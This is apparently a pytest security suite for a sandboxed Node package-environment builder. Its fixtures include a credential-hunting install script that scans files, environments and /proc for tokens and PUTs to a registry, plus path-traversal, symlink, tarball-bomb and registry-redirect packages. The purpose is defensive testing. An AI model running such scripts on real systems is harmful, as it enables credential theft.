"""Environments of Node: built from a registry of our own, and from the one that this host is configured for. What a
hostile package, lock or registry tries is refused by name, and nothing of it runs."""
# security: packages
import json
import os
import shutil
import subprocess

import pytest
from harness import PATH, copy_home
from nodes import Nodes, configured_registry, replant
from npm_registry import Registry, integrity, tarball

once = pytest.mark.once
shipped = pytest.mark.shipped
pytestmark = pytest.mark.skipif(not shutil.which("node", path=PATH) or not shutil.which("npm", path=PATH), reason="no node, no npm")


@pytest.fixture
def node(node_home, registry):
    carrel = Nodes(node_home, registry)
    yield carrel
    carrel.left_nothing()


# ---- what is built

def test_packages_are_resolved_installed_and_composed(node, registry):
    found = node.build("agent", "--npm", "one")
    assert found["installed_packages"] == {"one": "1.0.0", "two": "1.1.0"} and found["tools"].keys() >= {"bun"}
    assert found["indexes"] == [registry.url] and found["runtime"] == "bun" and len(found["layers"]) == 1
    assert node.node("--env", "agent", script="console.log(require('one'))") == "one two\n"
    assert node.inside("agent", "sh", "-c", "one-cli; bun --version; bunx --version | head -c 1").split()[0] == "cli"
    assert node.build("agent", "--npm", "one")["cached"]
    # Another name for the same packages needs neither the network nor a build.
    asked = len(registry.requests)
    assert node.build("other", "--npm", "one@latest")["layers"] == node.build("third", "--npm", "one")["layers"] == found["layers"]
    assert len(registry.requests) == asked
    rows = {row["name"]: row for row in node.ls()}
    assert rows[found["name"]]["kind"] == "node"
    assert "node " in node("env", "ls").stdout
    assert found["name"] in {event.get("venv") for event in node.events()}


def test_it_is_writable_and_thrown_away(node):
    node.build("agent", "--npm", "one")
    script = "echo x > node_modules/one/index.js && mkdir node_modules/mine && cat node_modules/one/index.js && ls node_modules"
    assert node.inside("agent", "sh", "-c", script).split() == ["x", "mine", "one", "two"]
    assert node.node("--env", "agent", script="console.log(require('one'))") == "one two\n"


def test_packages_of_python_and_node_together(node, template, index):
    from wheels import wheel
    index.add(wheel("six-like", "1.0", files={"six_like.py": "X = 1\n"}))
    node.env["PATH"] = f"{template[0]}:{PATH}"
    node.env["UV_DEFAULT_INDEX"] = index.url
    done = node.run("--pip", "six-like", "--npm", "one", "--", "sh", "-c",
                    "python -c 'import six_like; print(six_like.X)' && node -e 'console.log(require(\"one\"))'", timeout=120)
    assert (done.returncode, done.stdout) == (0, "1\none two\n"), done.stderr
    both = node("env", "build", "x", "--pip", "six-like", "--npm", "one")
    assert both.returncode == 125 and "Python or of Node" in both.stderr


def test_view_root_has_packages_at_its_top(node):
    script = "readlink -f /node_modules/.bin/one-cli; one-cli; node -e 'console.log(require(\"one\"))'; echo x >/f; ls /"
    done = node.run("--view", "root", "--npm", "one", "--", "sh", "-c", script, timeout=120)
    assert done.returncode == 0, done
    assert done.stdout.splitlines()[:3] == ["/node_modules/one/cli.js", "cli", "one two"] and "node_modules" in done.stdout.split()[4:], done


def test_a_directory_of_the_user_stays_as_it_is(node, tmp):
    (tmp / "a.js").write_text("console.log(require('one'))\n")
    done = node.run("--dir", tmp, "--npm", "one", "--", "node", "a.js", timeout=120)
    assert (done.returncode, done.stdout) == (0, "one two\n"), done.stderr
    assert [path.name for path in tmp.iterdir()] == ["a.js"]
    (tmp / "node_modules/one").mkdir(parents=True)
    (tmp / "node_modules/one/index.js").write_text("module.exports = 'mine'\n")
    done = node.run("--dir", tmp, "--npm", "one", "--", "node", "-e", "console.log(require('one'), require('two'))")
    assert (done.returncode, done.stdout) == (0, "mine two\n"), done.stderr
    assert [path.name for path in (tmp / "node_modules").iterdir()] == ["one"]


@once
def test_a_version_of_node_is_a_layer(node, registry):
    for machine in ("x64", "arm64"):
        for version in ("98.1.2", "98.10.0", "98.11.0-rc.1"):
            registry.add(f"node-linux-{machine}", version, {"bin/node": (f"#!/bin/sh\necho v{version}\n", 0o755), "include/x.h": ""})
    registry.add("npm", "11.0.0", {"bin/npm-cli.js": ("#!/bin/sh\necho npm\n", 0o755), "bin/npx-cli.js": ("#!/bin/sh\n", 0o755)})
    found = node.build("agent", "--npm", "one", "--node", "98")
    assert (found["node_version"], found["node"]) == ("98.10.0", None) and found["tools"].keys() == {"bun", "node", "npm"}
    assert found["name"].endswith("-node98")
    done = node.run("--npm", "one", "--node", "98.1", "--", "sh", "-c", "node; npm; command -v node; command -v npx; ls /opt/carrel/node; touch /opt/carrel/node/x", timeout=120)
    assert done.stdout.split() == ["v98.1.2", "npm", "/opt/carrel/node/bin/node", "/opt/carrel/npm/bin/npx", "bin"]
    assert done.returncode == 1 and "Read-only" in done.stderr
    node.refuses("--npm", "one", "--node", "97", code="version_not_found", says=["97"])
    # That of the host, where it has the version.
    major = subprocess.run(["node", "--version"], env={"PATH": PATH}, capture_output=True, text=True, check=True).stdout[1:].split(".")[0]
    assert node.build("agent", "--npm", "one", "--node", major)["tools"].keys() == {"bun"}
    # A tool is part of the environment.
    path = node.store / "layers" / found["tools"]["node"] / "tree/bin/node"
    path.write_text("#!/bin/sh\nevil\n")
    done = node("env", "verify", found["name"])
    assert done.returncode == 1 and "bin/node" in done.stdout
    assert node("env", "verify", "--repair", found["name"], timeout=120).returncode == 0
    assert node.inside(found["name"], "node") == "v98.10.0\n"
    assert node("env", "rm", found["name"]).returncode == 0


@once
def test_package_json_and_its_lock(node, registry, tmp):
    registry.add("pinned", "1.0.0")
    (tmp / "package.json").write_text(json.dumps({"name": "x", "dependencies": {"pinned": "^1"}, "scripts": {"install": "exit 1"}}))
    found = node.build("project", "--package-json", tmp)
    lock = (node.store / "envs" / found["name"] / "lock.txt").read_text()
    registry.add("pinned", "1.5.0")
    (tmp / "bun.lock").write_text(lock)
    assert node.build("project", "--package-json", tmp)["installed_packages"] == {"pinned": "1.0.0"}
    assert node.build("project", "--no-cache", "--package-json", tmp / "package.json")["installed_packages"] == {"pinned": "1.5.0"}
    # A lock of npm, with both clients.
    data = registry.packages["pinned"]["1.0.0"][0]["dist"]["integrity"]
    npm = {"name": "x", "lockfileVersion": 3, "packages": {"": {"name": "x", "dependencies": {"pinned": "^1"}},
           "node_modules/pinned": {"version": "1.0.0", "resolved": f"{registry.url}pinned/-/pinned-1.0.0.tgz", "integrity": data}}}
    (tmp / "package-lock.json").write_text(json.dumps(npm))
    (tmp / "bun.lock").unlink()
    for runtime in ("bun", "npm"):
        found = node.build("project", "--package-json", tmp, "--node-runtime", runtime)
        assert (found["installed_packages"], found["runtime"]) == ({"pinned": "1.0.0"}, runtime)
    # One that doesn't fit.
    (tmp / "package.json").write_text(json.dumps({"dependencies": {"two": "^1"}}))
    node.refuses("--package-json", tmp, "--node-runtime", "npm", code=("conflict", "failed"))


@once
def test_damage_is_found_and_repaired(node, registry):
    registry.add("fragile", "1.0.0")
    found = node.build("fragile", "--npm", "fragile")
    path = node.store / "layers" / found["layers"][0] / "tree/fragile/index.js"
    path.chmod(0o644)
    path.write_text("evil()\n")
    done = node("env", "verify", "fragile")
    assert done.returncode == 1 and "fragile/index.js" in done.stdout
    done = node("env", "verify", "--repair", "fragile", timeout=120)
    assert done.returncode == 0 and "repaired" in done.stdout, done.stderr
    assert node.node("--env", "fragile", script="console.log(require('fragile'))") == "fragile\n"
    assert node("env", "rm", found["name"]).returncode == 0


@once
def test_npm_and_bun_work_on_top(node, tmp):
    """Without a network: a package of the workspace is added beside those of the layer."""
    node.build("agent", "--npm", "one")
    add = ("mkdir -p dep && echo '{\"name\": \"dep\", \"version\": \"1.0.0\"}' > dep/package.json && echo 'module.exports = 7' > dep/index.js && "
           "echo '{\"name\": \"top\", \"dependencies\": {}}' > package.json && %s && "
           "node -e 'console.log(require(\"dep\"))' && ls node_modules/.bin")
    for command in ("npm install --offline --no-audit --no-fund --no-save ./dep >/dev/null", "bun add ./dep >/dev/null 2>&1"):
        done = node.run("--env", "agent", "--", "sh", "-c", add % command, timeout=120)
        assert done.returncode == 0 and done.stdout.split()[0] == "7", (command, done.stdout, done.stderr)


@once
def test_a_package_that_is_needed_in_two_places_is_one_file_on_disk(node, registry, tmp):
    """bun makes hard links of such packages: a layer holds them, and each workspace changes its own copy."""
    registry.add("shared", "1.0.0")
    registry.add("shared", "2.0.0", {"index.js": "module.exports = 'second'\n"})
    registry.add("left", "1.0.0", {"index.js": "module.exports = require('shared')\n"}, dependencies={"shared": "^2"})
    registry.add("right", "1.0.0", {"index.js": "module.exports = require('shared')\n"}, dependencies={"shared": "^2"})
    for runtime in ("bun", "npm"):
        found = node.build("places", "--npm", "shared@1", "--npm", "left", "--npm", "right", "--node-runtime", runtime)
        tree = node.store / "layers" / found["layers"][0] / "tree"
        files = [tree / side / "node_modules/shared/index.js" for side in ("left", "right")]
        assert all(path.stat().st_nlink == (2 if runtime == "bun" else 1) for path in files), runtime
        script = "echo 'module.exports = 7' > node_modules/left/node_modules/shared/index.js; node -p \"require('left') + require('right') + require('shared')\""
        assert node.inside("places", "sh", "-c", script) == "7secondshared\n"
        assert files[0].read_text() == files[1].read_text() == "module.exports = 'second'\n"
        assert node.json("verify", found["name"])["ok"]
        # A rule against writing one of them holds, also by the other name.
        denied = "node_modules/left/node_modules/shared/index.js"
        (tmp / "settings.json").write_text(json.dumps({"permissions": {"allow": ["shell(*)"], "deny": [f"file(write:/workspace/{denied})"]}}))
        script = f"echo evil > {denied}; echo other > {denied.replace('left', 'right')}; cat {denied} {denied.replace('left', 'right')}"
        done = node.run("--env", "places", "-s", tmp / "settings.json", "--", "node", "-e", f"console.log(require('child_process').spawnSync('sh', ['-c', {json.dumps(script)}]).stdout + '')")
        assert done.stdout.split("\n")[:2] == ["module.exports = 'second'", "other"], (done.stdout, done.stderr)
    # Through a name outside of the layer it could be changed.
    found = node.build("places", "--npm", "shared@1", "--npm", "left", "--npm", "right")
    os.link(node.store / "layers" / found["layers"][0] / "tree/left/node_modules/shared/index.js", node.store / "outside")
    done = node.json("verify", found["name"], code=1)
    assert {finding["path"] for finding in done["findings"]} == {f"{side}/node_modules/shared/index.js" for side in ("left", "right")}, done
    (node.store / "outside").unlink()
    assert node.json("verify", "--repair", found["name"])["ok"]


# ---- what is refused

@once
@pytest.mark.parametrize("spec", ["x@git+https://host/x", "x@file:../x", "user/repository", "./x", "x@npm:one@1", "x@http://host/x.tgz"])
def test_other_sources_are_refused(node, spec):
    node.refuses("--npm", spec, code="denied")


@once
def test_what_the_registry_does_not_have(node):
    node.refuses("--npm", "absent", code="not_found", package="absent")
    node.refuses("--npm", "@none/absent", code="not_found", package="@none/absent")
    node.refuses("--npm", "one@99", code="version_not_found", package="one")
    node.refuses("--npm", "one@nosuchtag", code="version_not_found", package="one")
    node.refuses("--npm", "one@1", "--npm", "one@2", code="conflict", package="one")
    node.refuses("--npm", "one@99", "--node-runtime", "npm", code="version_not_found", package="one")
    assert node("env", "build", "x", "--node", "latest", "--npm", "one").returncode == 125


@once
def test_a_registry_that_can_not_be_reached_is_named(node):
    error = node.refuses("--npm", "one", "--registry", "http://127.0.0.1:9/", code="network", says=["127.0.0.1:9"])
    assert "registry" in error["hint"]
    node.refuses("--npm", "one", "--registry", "ftp://host/", code="invalid", says=["--registry"])


@once
def test_a_tampered_file_is_refused(node, registry):
    registry.add("tampered", "1.0.0", served=tarball({"package.json": '{"name": "tampered", "version": "1.0.0"}', "index.js": "evil()"}))
    node.refuses("--npm", "tampered", code="hash_mismatch", package="tampered")


@once
def test_a_package_without_a_hash_is_refused(node, registry):
    registry.add("unhashed", "1.0.0", said="")
    registry.add("weak", "1.0.0", said="sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=")
    for name in ("unhashed", "weak"):
        node.refuses("--npm", name, code="denied", package=name, says=["SHA-512"])


@once
def test_a_dependency_from_elsewhere_is_refused(node, registry):
    registry.add("leads-to-git", "1.0.0", dependencies={"x": "git+https://127.0.0.1:9/x.git"})
    registry.add("leads-to-url", "1.0.0", dependencies={"x": "http://127.0.0.1:9/x.tgz"})
    registry.add("elsewhere", "1.0.0", tarball_url="http://127.0.0.1:9/elsewhere-1.0.0.tgz")
    for name in ("leads-to-git", "leads-to-url", "elsewhere"):
        node.refuses("--npm", name, code=("denied", "network", "failed", "not_found"))


@once
@pytest.mark.parametrize("runtime", ["bun", "npm"])
def test_the_npmrc_of_a_project_and_addresses_in_its_lock_lead_nowhere_else(node, registry, tmp, runtime):
    data = tarball({"package.json": json.dumps({"name": "far", "version": "1.0.0"}), "index.js": ""})
    with Registry() as other:
        other.add("far", "1.0.0", {"index.js": "module.exports = 'evil'\n"})
        (tmp / "package.json").write_text(json.dumps({"name": "x", "dependencies": {"far": "1.0.0"}}))
        (tmp / ".npmrc").write_text(f"registry={other.url}\nscript-shell={tmp}/sh\ncache={tmp}/cache\nprefix={tmp}/prefix\nnode-options=--require {tmp}/x.js\nignore-scripts=false\n")
        node.refuses("--package-json", tmp, "--node-runtime", runtime, code=("not_found", "failed", "conflict"))
        (tmp / "package-lock.json").write_text(json.dumps({"name": "x", "lockfileVersion": 3, "packages": {
            "": {"name": "x", "dependencies": {"far": "1.0.0"}},
            "node_modules/far": {"version": "1.0.0", "resolved": f"{other.url}far/-/far-1.0.0.tgz", "integrity": integrity(data)}}}))
        node.refuses("--package-json", tmp, "--node-runtime", runtime, code=("not_found", "failed", "conflict", "denied", "network", "hash_mismatch", "invalid"))
        assert other.requests == []
    assert {path.name for path in tmp.iterdir()} == {"package.json", ".npmrc", "package-lock.json"}


@once
def test_a_lock_leads_to_no_other_package_of_the_registry(node, registry, tmp):
    """Neither by an address and its hash, nor by the claim that another package brings it: what is blocked stays out, and each
    package has its hash."""
    def file_of(name, **how):
        registry.add(name, "1.0.0", **how)
        dist = registry.packages[name]["1.0.0"][0]["dist"]
        return dist["tarball"], dist.get("integrity")
    banned, plain, unhashed = file_of("banned"), file_of("plain"), file_of("without-hash", said="")
    entry = {"version": "1.0.0", "resolved": plain[0], "integrity": plain[1]}
    other = {"version": "1.0.0", "resolved": banned[0], "integrity": banned[1]}

    def npm(*more, **root):
        return "package-lock.json", {"lockfileVersion": 3, "packages": {"": {"dependencies": {"plain": "1.0.0"}, **root}, **dict(more)}}

    def bun(*packages):
        return "bun.lock", {"lockfileVersion": 1, "workspaces": {"": {"name": "x", "dependencies": {"plain": "1.0.0"}}}, "packages": dict(packages)}
    needs = {**entry, "dependencies": {"banned": "*", "without-hash": "*"}}
    locks = [
        npm(("node_modules/plain", other)),
        npm(("node_modules/plain", {**other, "name": "plain"})),
        npm(("node_modules/plain", entry), ("node_modules/two/node_modules/plain", other)),
        npm(("node_modules/plain", needs), ("node_modules/banned", {"version": "1.0.0", "resolved": banned[0], "inBundle": True})),
        npm(("node_modules/plain", needs), ("node_modules/without-hash", {"version": "1.0.0", "resolved": unhashed[0], "inBundle": True})),
        npm(("node_modules/plain", {**entry, "bundleDependencies": ["banned"]}), ("node_modules/plain/node_modules/banned", {"version": "1.0.0", "inBundle": True})),
        bun(("plain", ["plain@1.0.0", banned[0], {}, banned[1]])),
    ]
    config = node.store / "config.yaml"
    kept = config.read_text() if config.exists() else None
    node.configure("environments:\n  blocked_packages: [banned]\n")
    before = len(registry.requests)
    (tmp / "package.json").write_text(json.dumps({"name": "x", "dependencies": {"plain": "1.0.0"}}))
    try:
        for name, lock in locks:
            (tmp / name).write_text(json.dumps(lock))
            node.refuses("--package-json", tmp, "--node-runtime", "npm" if name.startswith("package") else "bun", code=("denied", "invalid"))
            (tmp / name).unlink()
        assert not [path for path in registry.requests[before:] if path.startswith(("banned/", "without-hash/", "plain/"))]
        # As npm writes it.
        (tmp / "package-lock.json").write_text(json.dumps(npm(("node_modules/plain", entry))[1]))
        assert node.build("honest", "--package-json", tmp, "--node-runtime", "npm")["installed_packages"] == {"plain": "1.0.0"}
    finally:
        config.unlink() if kept is None else config.write_text(kept)


@once
def test_a_lock_without_what_is_asked_for_is_refused(node, registry, tmp):
    registry.add("plain", "1.0.0")
    (tmp / "package.json").write_text(json.dumps({"name": "x", "dependencies": {"plain": "1.0.0"}}))
    (tmp / "package-lock.json").write_text(json.dumps({"lockfileVersion": 1, "packages": {}, "dependencies": {"plain": {"version": "1.0.0"}}}))
    node.refuses("--package-json", tmp, "--node-runtime", "npm", code=("conflict", "failed", "invalid"))


@once
def test_a_program_of_a_package_does_not_verify_its_environment(node, registry):
    """It has the name of Node."""
    registry.add("usurper", "1.0.0", {"index.js": "", "node.sh": ("#!/bin/sh\necho 'missing usurped'\n", 0o755)}, bin={"node": "node.sh"})
    found = node.build("usurped", "--npm", "usurper")
    assert node.inside("usurped", "node") == "missing usurped\n"
    done = node("env", "verify", "usurped", timeout=120)
    assert (done.returncode, done.stdout) == (0, f"{found['name']}: ok\n"), done.stderr


@once
@pytest.mark.parametrize("runtime", ["bun", "npm"])
def test_holes_of_files_count_as_bytes(node, registry, runtime):
    """They are hashed like anything else: a terabyte of them would take longer than the time of any build."""
    registry.add("holey", "1.0.0", scripts={"postinstall": "truncate -s 1T holes"})
    error = node.refuses("--npm", "holey", "--node-runtime", runtime, "--allow-scripts", code="denied", says=["holey/holes", "larger than"])
    assert "max_install_bytes" in error["hint"]


@once
@pytest.mark.parametrize("runtime", ["bun", "npm"])
def test_a_tarball_that_is_a_bomb_does_not_fill_the_disk(node, registry, runtime):
    def used():
        return sum(os.lstat(os.path.join(where, name)).st_blocks * 512 for where, _, names in os.walk(node.store) for name in names)
    registry.add("bomb", "1.0.0", {"index.js": "", "zeros": bytes(300 << 20)})
    node.build("calm", "--npm", "one", "--node-runtime", runtime)      # the tools are there
    config = node.store / "config.yaml"
    kept = config.read_text() if config.exists() else None
    node.configure("environments:\n  max_install_bytes: 32M\n")
    try:
        before = used()
        node.refuses("--npm", "bomb", "--node-runtime", runtime, code=("denied", "disk_full", "failed"))
        assert used() - before < 4 << 20
    finally:
        config.unlink() if kept is None else config.write_text(kept)
        registry.packages.pop("bomb")


@once
@pytest.mark.parametrize("runtime", ["bun", "npm"])
def test_scripts_of_packages_run_only_when_asked_for(node, registry, runtime):
    script = "node -e \"require('fs').writeFileSync('ran', 'x')\""
    registry.add("scripted", "1.0.0", scripts={"preinstall": script, "install": script, "postinstall": script})
    found = node.build("quiet", "--npm", "scripted", "--node-runtime", runtime)
    assert not (node.store / "layers" / found["layers"][0] / "tree/scripted/ran").exists()
    found = node.build("loud", "--npm", "scripted", "--node-runtime", runtime, "--allow-scripts")
    assert (node.store / "layers" / found["layers"][0] / "tree/scripted/ran").exists()
    assert json.loads((node.store / "envs" / found["name"] / "meta.json").read_text())["allow_scripts"]
    assert node.inside("loud", "ls", "node_modules").split() == ["scripted"]
    registry.add("broken-script", "1.0.0", scripts={"postinstall": "echo it broke >&2; exit 3"})
    node.refuses("--npm", "broken-script", "--node-runtime", runtime, "--allow-scripts", code="failed", says=["exit", "3"] if runtime == "bun" else [])


THIEF = """
const fs = require('fs'), http = require('http'), net = require('net'), path = require('path'), found = {};
function walk(directory, depth) {
  for (const entry of fs.readdirSync(directory, {withFileTypes: true})) {
    const name = path.join(directory, entry.name);
    if (entry.isDirectory() && depth < 12 && !['/proc', '/usr', '/sys', '/dev', '/tools'].includes(name)) walk(name, depth + 1);
    else if (entry.isFile()) try { if (fs.readFileSync(name, 'latin1').includes('stolen-' + 'token')) found[name] = true } catch (e) {}
  }
}
try { walk('/', 0) } catch (e) { found.walk = String(e) }
for (const [name, value] of Object.entries(process.env)) if (value.includes('stolen-' + 'token')) found[name] = true;
try { for (const pid of fs.readdirSync('/proc')) if (/^\\d+$/.test(pid)) for (const file of ['environ', 'cmdline'])
  try { if (fs.readFileSync('/proc/' + pid + '/' + file, 'latin1').includes('stolen-' + 'token')) found[pid + file] = true } catch (e) {} } catch (e) {}
const proxies = Object.keys(process.env).filter(name => /proxy/i.test(name) && process.env[name].startsWith('http'));
fs.writeFileSync('report.json', JSON.stringify({found, proxies}));
const put = (port, target, headers) => port && http.request({host: '127.0.0.1', port, method: 'PUT', path: target, headers}).on('error', () => {}).end('x');
const address = new URL(process.env.THIEF_REGISTRY || 'http://@HOST@/');
put(8080, address.href + 'planted', {host: address.host});
for (const name of proxies) put(new URL(process.env[name]).port, address.href + 'planted', {host: address.host});
put(address.port, '/planted', {});
"""


@once
@pytest.mark.parametrize("runtime", ["bun", "npm"])
def test_scripts_of_packages_find_neither_a_login_nor_a_network(node, registry, tmp, runtime):
    script = "node thief.js"
    registry.add("thief", "1.0.0", {"thief.js": THIEF.replace("@HOST@", registry.host)}, scripts={"preinstall": script, "install": script, "postinstall": script})
    (tmp / "npmrc").write_text(f"registry={registry.url}\n//{registry.host}/:_authToken=stolen-token\n")
    del node.env["npm_config_registry"]
    node.env["NPM_CONFIG_USERCONFIG"] = str(tmp / "npmrc")
    registry.door, before = "Bearer stolen-token", len(registry.written)
    try:
        found = node.build("robbed", "--npm", "thief", "--node-runtime", runtime, "--allow-scripts")
    finally:
        registry.door = None
    tree = node.store / "layers" / found["layers"][0] / "tree"
    assert json.loads((tree / "thief/report.json").read_text()) == {"found": {}, "proxies": []}
    assert registry.written[before:] == []
    assert subprocess.run(["grep", "-rl", "stolen-token", node.store], capture_output=True, text=True).stdout == ""


@once
@pytest.mark.parametrize("package, path, text", [("greedy", "greedy/report", "_authToken=operators-own-token\n"), ("sly", ".npmrc", "registry=x\n")])
def test_verify_finds_layers_that_hold_a_login_and_repairs_them(node, registry, tmp, package, path, text):
    registry.add(package, "1.0.0", scripts={"postinstall": "cp /env/.npmrc report"})
    found = node.build("old", "--npm", package, "--node-runtime", "npm", "--allow-scripts")
    (tmp / "npmrc").write_text(f"//{registry.host}/:_authToken=operators-own-token\n//elsewhere.example/:_password=abc\n")
    node.env["NPM_CONFIG_USERCONFIG"] = str(tmp / "npmrc")
    assert node("env", "verify", "old", timeout=120).stdout == f"{found['name']}: ok\n"
    layer = replant(node.store, found["name"], found["layers"][0], {path: text})
    done = node("env", "verify", "old", timeout=120)
    assert done.returncode == 1 and path in done.stdout and "login" in done.stdout, (done.stdout, done.stderr)
    assert "operators-own-token" not in done.stdout + done.stderr
    done = node("env", "verify", "--repair", "old", timeout=180)
    assert done.returncode == 0 and "repaired" in done.stdout, (done.stdout, done.stderr)
    assert node("env", "verify", "old", timeout=120).stdout == f"{found['name']}: ok\n"
    assert not (node.store / "layers" / layer).exists() and node.inside("old", "cat", f"node_modules/{package}/report").startswith("registry=")
    assert node("env", "prune").returncode == 0
    assert subprocess.run(["grep", "-rl", "operators-own-token", node.store], capture_output=True, text=True).stdout == ""


@once
def test_a_login_that_a_package_brings_is_named_and_stays_a_finding(node, registry, tmp):
    registry.add("leaky", "1.0.0", {"index.js": "// https://me:short@host.example, operators-own-token\n"})
    node.build("leaky", "--npm", "leaky")
    node.env["NETRC"] = str(tmp / "netrc")
    for password, is_found in (("operators-own-token", True), ("short", True), ("host", False)):
        (tmp / "netrc").write_text(f"machine host.example login me password {password}\n")
        done = node("env", "verify", "leaky", timeout=120)
        assert done.returncode == is_found and ("index.js" in done.stdout) == is_found, (password, done.stdout, done.stderr)
    (tmp / "netrc").write_text("machine host.example login me password operators-own-token\n")
    done = node("env", "verify", "--repair", "leaky", timeout=120)
    assert done.returncode == 1 and "bring a login" in done.stderr and "operators-own-token" not in done.stdout + done.stderr, done.stderr


@once
def test_names_and_links_that_lead_out_stay_in(node, registry):
    """Whatever the client makes of such a file: a layer has nothing of it outside of its packages."""
    registry.add("traversal", "1.0.0", {"../../../escaped": "x", "../escaped": "x", "/escaped": "x", "index.js": ""})
    registry.add("linked", "1.0.0", {"index.js": ""}, links=[("out", "/etc/passwd", False), ("up", "../../../../etc/passwd", False), ("hard", "/etc/passwd", True)])
    for name in ("traversal", "linked"):
        done = node("env", "build", name, "-o", "json", "--npm", name, timeout=120)
        answer = json.loads(done.stdout)
        if done.returncode:
            assert answer["error"]["code"] in ("denied", "failed"), answer
            continue
        tree = node.store / "layers" / answer["layers"][0] / "tree"
        for directory, names, files in os.walk(tree):
            for entry in names + files:
                path = os.path.join(directory, entry)
                assert not os.path.islink(path) or not os.readlink(path).startswith("/"), path
        assert {path.name for path in tree.iterdir()} <= {name, ".bin", ".package-lock.json"}


@once
def test_a_damaged_tool_is_refused(node, registry, tmp_path, template):
    """The SHA-512 of the registry's page is compared before anything is unpacked."""
    copy_home(template[1], tmp_path / "home/carrel", leave=("run", "audit"))
    fresh = Nodes(tmp_path / "home", registry)
    with Registry() as liar:
        for name in ("@oven/bun-linux-x64", "@oven/bun-linux-x64-baseline", "@oven/bun-linux-aarch64"):
            liar.add(name, "1.4.4", {"bin/bun": ("#!/bin/sh\nexit 0\n", 0o755)}, said=integrity(b"another"))
        fresh.env["npm_config_registry"] = liar.url
        fresh.refuses("--npm", "one", code="hash_mismatch", says=["bun"])
    assert fresh.layer_ids() == {path.name for path in (template[1] / "layers").iterdir() if not path.name.startswith(".")}


@once
def test_credentials_reach_the_registry_and_nothing_else(node, registry, tmp):
    registry.add("secret", "1.0.0")
    (tmp / "npmrc").write_text(f"registry={registry.url}\n//{registry.host}/:_authToken=${{NPM_TOKEN_FOR_TEST}}\n")
    del node.env["npm_config_registry"]
    node.env.update({"NPM_CONFIG_USERCONFIG": str(tmp / "npmrc"), "NPM_TOKEN_FOR_TEST": "very-secret-token"})
    registry.door = "Bearer very-secret-token"
    try:
        found = node.build("private", "--npm", "secret")
    finally:
        registry.door = None
    kept = subprocess.run(["grep", "-rl", "very-secret-token", node.store / "envs", node.store / "locks", node.store / "audit"],
                          capture_output=True, text=True)
    assert kept.stdout == "" and "secret" in found["installed_packages"]


# ---- killed

@pytest.mark.needs_faults
@pytest.mark.parametrize("point", ["node.layer", "envs.meta"])
def test_a_build_that_is_killed_leaves_nothing(node, registry, point):
    name = f"killed-{point.replace('.', '-')}"
    registry.add(name, "1.0.0")
    done = node("env", "build", name, "--npm", name, env={"CARREL_FAULT": f"{point}:1"}, timeout=120)
    assert done.returncode != 0
    assert not [row for row in node.names() if row.startswith(name)]
    found = node.build(name, "--npm", name)
    assert node.node("--env", found["name"], script=f"console.log(require('{name}'))") == f"{name}\n"


# ---- a workspace, and real packages

def test_a_workspace_keeps_what_was_installed(node, index, template, tmp):
    from wheels import wheel
    index.add(wheel("kept-like", "1.0", files={"kept_like.py": "X = 1\n"}))
    node.env["PATH"] = f"{template[0]}:{PATH}"
    node.env["UV_DEFAULT_INDEX"] = index.url
    assert node("create", "desk", "--npm", "one", "--pip", "kept-like", timeout=180).returncode == 0
    try:
        shown = json.loads(node("info", "desk", "-o", "json").stdout)
        assert shown["node_environment"].startswith("run_") and shown["environment"].startswith("run_")
        both = "console.log(require('one'), require('child_process').execSync('python -c \"import kept_like\" && echo ok').toString())"
        assert node("exec", "desk", "--", "node", "-e", both).stdout.split() == ["one", "two", "ok"]
        assert node("exec", "desk", "--", "sh", "-c", "echo mine > node_modules/mine; echo venv > /env/mine").returncode == 0
        assert node("serve", "--stop", timeout=60).returncode == 0
        done = node("exec", "desk", "--", "sh", "-c", "cat node_modules/mine /env/mine; ls node_modules", timeout=60)
        assert done.stdout.split() == ["mine", "venv", "mine", "one", "two"], done.stderr
        assert node("env", "rm", shown["node_environment"]).returncode == 125        # in use
        # By the texts of its files, which are sent; what can't be built leaves no workspace.
        (tmp / "package.json").write_text('{"dependencies": {"one": "1.x"}, "scripts": {"install": "exit 1"}}')
        assert node("create", "project", "--package-json", tmp, timeout=120).returncode == 0
        assert node("exec", "project", "--", "node", "-p", "require('one')").stdout == "one two\n"
        # It is a project: clients keep what it names, also without a network.
        assert node("exec", "project", "--", "cat", "package.json").stdout == (tmp / "package.json").read_text()
        add = ("mkdir dep && echo '{\"name\": \"dep\", \"version\": \"1.0.0\"}' > dep/package.json && "
               "npm install --offline --no-audit --no-fund --no-package-lock ./dep >&2 && bun add --silent --ignore-scripts ./dep >&2 && ls node_modules")
        done = node("exec", "project", "--", "sh", "-c", add, timeout=120)
        assert done.stdout.split() == ["dep", "one", "two"], (done.stdout, done.stderr)
        done = node("create", "bad", "--npm", "one@99", "-o", "json", timeout=120)
        assert json.loads(done.stdout)["error"]["code"] == "not_found" and "'one'" in done.stdout
        assert {row["name"] for row in json.loads(node("ls", "-o", "json").stdout)} == {"desk", "project"}
    finally:
        node("rm", "desk", "project", timeout=60)
        node("serve", "--stop", timeout=60)


@once
@shipped
def test_clients_of_the_daemon_ask_for_scripts_where_the_operator_allows_it(node, registry):
    script = "node -e \"require('fs').writeFileSync('ran', 'x')\""
    registry.add("scripted-later", "1.0.0", scripts={"postinstall": script})
    config = node.store / "config.yaml"
    before = config.read_text() if config.exists() else None
    try:
        done = node("create", "loud", "--npm", "scripted-later", "--allow-scripts", "-o", "json", timeout=120)
        error = json.loads(done.stdout)["error"]
        assert error["code"] == "denied" and "install scripts" in error["message"] and "environments.allow_scripts" in error["hint"], done
        assert json.loads(node("ls", "-o", "json").stdout) == []
        node.configure("environments:\n  allow_scripts: true\n")
        assert node("serve", "--stop", "--force", timeout=60).returncode == 0
        assert node("create", "loud", "--npm", "scripted-later", "--allow-scripts", timeout=120).returncode == 0
        assert node("exec", "loud", "--", "cat", "node_modules/scripted-later/ran", timeout=60).stdout == "x"
        # No more of them once the operator has changed his mind.
        node.configure("environments:\n  allow_scripts: false\n")
        assert node("serve", "--stop", "--force", timeout=60).returncode == 0
        done = node("install", "--node", "loud", "one", timeout=120)
        assert done.returncode != 0 and "install scripts" in done.stderr, done
        assert node("exec", "loud", "--", "cat", "node_modules/scripted-later/ran", timeout=60).stdout == "x"
    finally:
        node("rm", "loud", timeout=60)
        config.unlink(missing_ok=True)
        if before is not None:
            node.configure(before)
        node("serve", "--stop", "--force", timeout=60)


@once
@shipped
def test_layers_of_a_workspace_are_named_repaired_and_never_run(node, index, template):
    """Of Python and of Node: damaged, missing, hidden by a command. Nothing is repaired that nobody asked for, unless configured so."""
    from wheels import wheel
    index.add(wheel("mend-like", "1.0", files={"mend_like.py": "X = 1\n"}))
